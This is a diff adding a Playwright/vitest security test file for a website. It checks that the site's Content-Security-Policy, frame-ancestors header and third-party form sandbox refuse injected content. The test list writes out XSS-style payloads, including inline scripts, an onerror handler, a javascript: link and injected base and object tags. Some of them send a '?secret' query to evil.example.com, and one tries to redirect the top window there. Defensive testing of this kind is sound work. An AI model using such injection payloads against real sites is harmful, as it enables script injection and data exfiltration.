@@ -1,0 +1,241 @@
+import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
+import { createServer } from 'node:http'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import type { Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
+import { listen, serveFolder } from '../../src/build/serve.ts'
+import { sitePolicy } from '../../src/hosting/content-security-policy.ts'
+import { headerFile } from '../../src/hosting/header-file.ts'
+import { lastingSecurityHeaders } from '../../src/hosting/security-headers.ts'
+import { eventually, follow, opener } from './steps.ts'
+import { hydrated, useBrowser } from './visit.ts'
+
+const visit = useBrowser()
+const open = opener(visit)
+
+/** What an injected text would try, each by itself, and the directive that must refuse it. */
+const ATTEMPTS: readonly (readonly [name: string, directive: string, attempt: () => unknown])[] = [
+  [
+    'an inline script',
+    'script-src',
+    () => {
+      const script = document.createElement('script')
+      script.textContent = 'window.ran = true'
+      document.body.append(script)
+    },
+  ],
+  [
+    'a handler in an attribute',
+    'script-src',
+    () =>
+      document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.ran = true">'),
+  ],
+  [
+    'a link that is a script',
+    'script-src',
+    () => {
+      document.body.insertAdjacentHTML(
+        'beforeend',
+        '<a id="js" href="javascript:window.ran=true">x</a>',
+      )
+      document.getElementById('js')!.click()
+    },
+  ],
+  [
+    'a script of another host',
+    'script-src',
+    () => {
+      const script = document.createElement('script')
+      script.src = 'https://evil.example.com/x.js'
+      document.body.append(script)
+    },
+  ],
+  [
+    'a text that becomes code',
+    'script-src',
+    () => {
+      try {
+        setTimeout('window.ran = true')
+      } catch {
+        // Refused at once: the policy has told.
+      }
+    },
+  ],
+  [
+    'a style',
+    'style-src',
+    () => document.body.insertAdjacentHTML('beforeend', '<style>body{color:red}</style>'),
+  ],
+  [
+    'a style in an attribute',
+    'style-src',
+    () => document.body.insertAdjacentHTML('beforeend', '<p style="color:red">x</p>'),
+  ],
+  [
+    'a picture that tells another host',
+    'img-src',
+    () => void (new Image().src = 'https://evil.example.com/?secret'),
+  ],
+  [
+    'a request to another host',
+    'connect-src',
+    () => void fetch('https://evil.example.com/?secret').catch(() => {}),
+  ],
+  [
+    'a frame of another host',
+    'frame-src',
+    () =>
+      document.body.insertAdjacentHTML(
+        'beforeend',
+        '<iframe src="https://evil.example.com/"></iframe>',
+      ),
+  ],
+  [
+    'another base for every link',
+    'base-uri',
+    () => document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example.com/">'),
+  ],
+  [
+    'a plug-in',
+    'object-src',
+    () =>
+      document.body.insertAdjacentHTML(
+        'beforeend',
+        '<object data="https://evil.example.com/x"></object>',
+      ),
+  ],
+]
+
+let folder: string
+/** The shipped site on hosts that send no headers, and those of a server's settings. */
+const origins = new Map<string, string>()
+
+const serve = async (name: string, headers: string | undefined): Promise<() => void> => {
+  const dist = join(folder, name)
+  await cp(inject('shippedFolder'), dist, { recursive: true })
+  await rm(join(dist, '_headers'))
+  if (headers !== undefined) await writeFile(join(dist, '_headers'), headers)
+  const server = serveFolder(dist)
+  origins.set(name, `http://localhost:${await listen(server, 4600, '127.0.0.1')}`)
+  return () => {
+    server.closeAllConnections()
+    server.close()
+  }
+}
+
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'security-'))
+  origins.set('_headers', inject('shipped'))
+  const embeds = {
+    scripts: ['https://www.instagram.com'],
+    frames: ['https://social.example.com', 'https://www.instagram.com'],
+    connections: ['https://www.instagram.com'],
+    images: [],
+    sampleForm: true,
+    leadForm: false,
+  }
+  const lasting = lastingSecurityHeaders(sitePolicy(embeds, []), embeds)
+  const ends = [
+    await serve('no headers', undefined),
+    await serve('settings', headerFile([{ path: '/*', headers: lasting }])),
+  ]
+  return () => {
+    for (const end of ends) end()
+  }
+})
+afterAll(() => rm(folder, { recursive: true, force: true }))
+
+const ran = (page: Page): Promise<boolean> => page.evaluate(() => 'ran' in window)
+
+describe.each(['_headers', 'no headers', 'settings'])('the policy of a host with: %s', (host) => {
+  it.each(ATTEMPTS)('refuses %s (%s)', async (_, directive, attempt) => {
+    const { page, refused } = await open('/', { origin: origins.get(host)! })
+    await page.evaluate(attempt)
+    await eventually(async () => refused.some((line) => line.includes(directive))).toBe(true)
+    expect(await ran(page)).toBe(false)
+    refused.splice(0)
+  })
+
+  it('lets the pages be what they are, from one to the next', async () => {
+    const { page, refused } = await open('/', { origin: origins.get(host)! })
+    await follow(page, page.locator('footer a[href="/locations/layton"]'), '/locations/layton')
+    await follow(page, page.locator('header a[href="/book-now"]').first(), '/book-now')
+    const size = await page.locator('h1').evaluate((heading) => getComputedStyle(heading).fontSize)
+    expect(Number.parseFloat(size)).toBeGreaterThan(30)
+    await page.goto(`${origins.get(host)!}/book-now`)
+    await hydrated(page)
+    expect(await page.locator('h1').evaluate((heading) => getComputedStyle(heading).fontSize)).toBe(
+      size,
+    )
+    expect(refused).toEqual([])
+  })
+})
+
+describe('the headers', () => {
+  it('keep the site out of the frames of others', async () => {
+    const stranger = createServer((_, response) => {
+      response.setHeader('content-type', 'text/html')
+      response.end(`<!doctype html><iframe src="${inject('shipped')}/"></iframe>`)
+    })
+    const origin = `http://127.0.0.1:${await listen(stranger, 4650, '127.0.0.1')}`
+    const { page, context, refused } = await visit({
+      origin,
+      thirdParty: (route) => route.continue(),
+    })
+    await page.goto(origin)
+    await eventually(async () => refused.length).toBeGreaterThan(0)
+    for (const line of refused.splice(0)) expect(line).toContain('frame-ancestors')
+    await context.close()
+    stranger.close()
+    stranger.closeAllConnections()
+  })
+
+  it('and the policy in each page say the same, but for what a page cannot say', async () => {
+    const headers = await readFile(join(inject('shippedFolder'), '_headers'), 'utf8')
+    const header = /Content-Security-Policy: (.*)/.exec(headers)![1]!.split('; ')
+    const html = await readFile(join(inject('shippedFolder'), 'index.html'), 'utf8')
+    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)![1]!
+    const isStyle = (part: string): boolean => part.startsWith('style-src')
+    const styles = meta.split('; ').find(isStyle)!.split(' ')
+    for (const hash of styles.slice(1)) expect(header.find(isStyle)).toContain(hash)
+    expect(header.filter((part) => !isStyle(part))).toEqual([
+      ...meta.split('; ').filter((part) => !isStyle(part)),
+      "frame-ancestors 'self'",
+    ])
+    // Before anything that it speaks of.
+    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(
+      html.search(/<style|<script|<link/),
+    )
+  })
+})
+
+describe("a provider's form", () => {
+  it('may do in its frame what a form needs, and may not lead the page away by itself', async () => {
+    const body = `<!doctype html><form></form><script>
+      parent.postMessage(self.origin, '*')
+      try { top.location = 'https://evil.example.com/' } catch { parent.postMessage('stays', '*') }
+    </script>`
+    const { page, refused } = await visit({
+      site: 'connected',
+      thirdParty: (route, request) =>
+        route.fulfill(
+          request.resourceType() === 'document'
+            ? { contentType: 'text/html', body }
+            : { contentType: 'text/javascript', body: '' },
+        ),
+    })
+    await page.addInitScript(() => {
+      const heard: unknown[] = []
+      Object.assign(window, { heard })
+      addEventListener('message', ({ data }) => heard.push(data))
+    })
+    await page.goto(`${inject('connected')}/book-now`)
+    await page.locator('iframe').scrollIntoViewIfNeeded()
+    const heard = () => page.evaluate(() => (window as { heard?: unknown[] }).heard)
+    await eventually(heard).toEqual(['https://forms.example.com', 'stays'])
+    expect(new URL(page.url()).pathname).toBe('/book-now')
+    refused.splice(0)
+    await page.context().close()
+  })
+})
